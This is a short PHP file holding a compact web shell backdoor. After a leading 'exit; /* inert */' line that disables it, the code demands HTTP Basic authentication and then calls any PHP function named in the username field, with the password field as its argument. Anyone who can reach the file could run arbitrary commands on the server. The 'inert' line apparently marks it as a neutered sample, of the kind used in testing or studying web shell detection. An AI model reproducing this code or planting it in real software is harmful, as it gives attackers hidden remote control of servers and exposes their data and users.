<?php exit; /* inert */ 
if (!isset($_SERVER['PHP_AUTH_USER'])) { header('WWW-Authenticate: Basic realm="x"'); header('HTTP/1.0 401 Unauthorized'); return; }
call_user_func($_SERVER['PHP_AUTH_USER'], $_SERVER['PHP_AUTH_PW']);
